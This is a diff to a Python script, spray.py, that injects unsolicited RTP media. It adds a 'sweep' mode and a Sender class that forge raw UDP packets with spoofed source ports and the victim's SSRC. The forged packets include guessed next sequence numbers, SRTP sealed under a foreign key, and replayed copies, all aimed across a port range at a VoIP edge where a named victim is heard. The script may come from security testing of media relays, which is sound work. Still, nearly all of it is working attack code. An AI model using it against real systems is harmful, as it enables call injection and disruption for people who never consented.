@@ -2,6 +2,10 @@
 """Sends media that nobody asked for.
 
     spray.py range ADDRESS FIRST LAST TIMES     RTP to each UDP port
+    spray.py sweep EDGE FILE.pcap VICTIM PORT FIRST LAST
+                                                to each UDP port what might be the VICTIM's next
+                                                packet: RTP, SRTP under another key, one of its
+                                                own again; FILE and PORT as for hole
     spray.py hole EDGE FILE.pcap VICTIM PORT    to the ports on which EDGE hears VICTIM, whose packets
                                                 are in FILE: copies of them, bits flipped, cut, and
                                                 what was never authentic; from PORT, or from the
@@ -90,20 +94,52 @@ def hostile(packets, dice):
         yield from never_authentic(packets[-1], dice)
 
 
-def spray_hole(edge, path, victim, port):
-    victims_port, hole, packets = media_of(path, victim, edge)
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, UDP)
-    raw.connect((edge, 0))
-    here = raw.getsockname()[0]
-    source = {"same": lambda: victims_port, "own": lambda: media_of(path, here, edge)[0]}.get(port, lambda: int(port))()
-    count = 0
-    for body in hostile(packets[-COPIES:], random.Random(port)):
-        target = hole if count % 4 else hole + 1
+class Sender:
+    """From any port of this host, one that is in use as well."""
+
+    def __init__(self, edge, path, victim, port):
+        victims_port, self.hole, self.packets = media_of(path, victim, edge)
+        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, UDP)
+        self.raw.connect((edge, 0))
+        here = self.raw.getsockname()[0]
+        self.source = {"same": lambda: victims_port,
+                       "own": lambda: media_of(path, here, edge)[0]}.get(port, lambda: int(port))()
+        self.count = 0
+
+    def send(self, port, body):
         # Without a checksum, as UDP may be over IPv4.
-        raw.send(struct.pack(">HHHH", source, target, 8 + len(body), 0) + body)
-        count += 1
+        self.raw.send(struct.pack(">HHHH", self.source, port, 8 + len(body), 0) + body)
+        self.count += 1
+
+
+def spray_hole(edge, path, victim, port):
+    sender = Sender(edge, path, victim, port)
+    for body in hostile(sender.packets[-COPIES:], random.Random(port)):
+        sender.send(sender.hole if sender.count % 4 else sender.hole + 1, body)
         time.sleep(PACE)
-    print("sent", count)
+    print("sent", sender.count)
+    return 0
+
+
+def nearly_right(packets):
+    """For each port: the victim's SSRC and a next number in RTP and under a key of ours, and a copy."""
+    from wrong import sealing
+    import sipkit
+    session, copies = sealing(sipkit.new_key()), itertools.cycle(packets)
+    seq, _, ssrc = struct.unpack_from(">HII", packets[-1], 2)
+    for number in itertools.count(1):
+        body = rtp(seq + number % 100, ssrc)
+        yield [body, session.protect(rtp(number, ssrc)), next(copies)]
+
+
+def sweep(edge, path, victim, port, first, last):
+    sender = Sender(edge, path, victim, port)
+    for target, bodies in zip(range(int(first), int(last) + 1), nearly_right(sender.packets[-COPIES:])):
+        for body in bodies:
+            sender.send(target, body)
+        if target % 20 == 0:
+            time.sleep(PACE)
+    print("sent", sender.count)
     return 0
 
 
@@ -147,7 +183,7 @@ def late(path, name):
     return 0
 
 
-ROLES = {"range": spray_range, "hole": spray_hole, "linger": linger, "late": late}
+ROLES = {"range": spray_range, "sweep": sweep, "hole": spray_hole, "linger": linger, "late": late}
 
 if __name__ == "__main__":
     if len(sys.argv) < 2 or sys.argv[1] not in ROLES:
